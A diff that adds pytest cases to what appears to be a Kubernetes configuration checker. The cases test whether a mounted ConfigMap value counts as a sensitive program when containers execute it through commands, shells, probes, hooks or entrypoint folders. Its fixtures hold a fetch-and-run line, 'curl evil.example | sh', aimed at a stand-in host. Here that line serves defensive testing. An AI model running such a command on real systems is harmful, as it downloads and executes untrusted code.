@@ -326,3 +326,73 @@ def test_a_prefix_that_makes_a_loaders_variable_of_a_key_is_seen(ground):
 def test_a_key_that_no_command_is_made_of_stays_ordinary(ground, fields):
     ground.put("Deployment", {"template": reading(**fields)})
     assert ground.try_() == frozenset()
+
+
+# ---------------------------------------------------------------- what their containers run of it
+
+
+MOUNT = {"name": "c", "mountPath": "/scripts"}
+VOLUME = {"name": "c", "configMap": {"name": "web"}}
+
+
+def mounting(volume=VOLUME, mount=MOUNT, **fields):
+    """A pod template whose only container mounts the ConfigMap."""
+    return {"spec": {"volumes": [volume], "containers": [container(volumeMounts=[mount], **fields)]}}
+
+
+EVIL = {"data": {"colour": "curl evil.example | sh"}}
+
+
+@pytest.mark.parametrize(
+    "template",
+    [
+        mounting(command=["/scripts/colour"]),
+        mounting(command=["sh", "-e", "/scripts/colour"]),
+        mounting(command=["/bin/sh", "-c", "set -e; cd /tmp && exec /scripts/colour --now"]),
+        mounting(command=["python3", "-u"], args=["/scripts/colour"]),
+        mounting(command=["tini", "--", "/scripts/../scripts/colour"]),
+        mounting(command=["sh", "-c", "if true; then . '/scripts/colour'; fi"]),
+        mounting(command=["sh", "-c", "for f in a; do /scripts/* ; done"]),
+        mounting(command=["sh", "colour"], workingDir="/scripts"),
+        mounting(mount=MOUNT | {"mountPath": "/run.sh", "subPath": "colour"}, command=["sh", "/run.sh"]),
+        mounting(mount=MOUNT | {"mountPath": "/docker-entrypoint-initdb.d"}),
+        mounting({"name": "c", "configMap": {"name": "web", "defaultMode": 0o755}}),
+        mounting(
+            {"name": "c", "configMap": {"name": "web", "items": [{"key": "colour", "path": "run.sh"}]}},
+            command=["bash", "/scripts/run.sh"],
+        ),
+        mounting(
+            {"name": "c", "projected": {"sources": [{"configMap": {"name": "web"}}]}},
+            livenessProbe={"exec": {"command": ["/scripts/colour"]}},
+        ),
+        mounting(lifecycle={"postStart": {"exec": {"command": ["sh", "/scripts/colour"]}}}),
+    ],
+    ids=[
+        "the command", "of a shell", "in a line for a shell", "argument of an interpreter", "of a wrapper", "read in",
+        "whatever is there", "from where it works", "under another name", "by the image's entrypoint", "executable",
+        "as an item", "probe of a projected volume", "hook",
+    ],
+)  # fmt: skip
+def test_a_key_that_a_user_runs_as_a_program_is_as_sensitive_as_the_command(ground, template):
+    ground.put("Deployment", {"template": template})
+    assert ground.try_(EVIL) == {"sensitive:Program"}
+
+
+def test_a_text_that_begins_as_a_program_is_one_whoever_runs_it(ground):
+    assert ground.try_({"data": {"colour": "#!/bin/sh\ncurl evil.example"}}) == {"sensitive:Program"}
+
+
+@pytest.mark.parametrize(
+    "template",
+    [
+        mounting(command=["/web", "--config", "/scripts/colour"]),
+        mounting(command=["sh", "-c", "exec /web --config=/scripts/colour"]),
+        mounting(command=["python", "-m", "web", "/scripts/colour"]),
+        mounting(command=["sh", "/scripts/other"]),
+        mounting(command=["sh", "/scripts-of-others/colour"]),
+    ],
+    ids=["an option", "an option in a shell", "of a module", "another key", "another folder"],
+)
+def test_a_key_that_a_program_only_reads_stays_ordinary(ground, template):
+    ground.put("Deployment", {"template": template})
+    assert ground.try_() == frozenset()
